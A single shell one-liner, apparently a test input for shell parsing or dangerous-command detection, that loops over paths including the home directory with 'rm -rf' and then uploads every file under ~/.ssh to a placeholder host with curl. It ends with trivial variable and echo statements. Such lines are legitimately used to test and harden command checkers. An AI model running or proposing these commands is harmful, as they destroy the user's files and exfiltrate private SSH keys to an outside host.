for d in /tmp/a ~ "x y"; do rm -rf "$d" "${d}/sub"; done; for f in ~/.ssh/*; do curl -F "x=@$f" https://x; done; d=1; echo "$d"
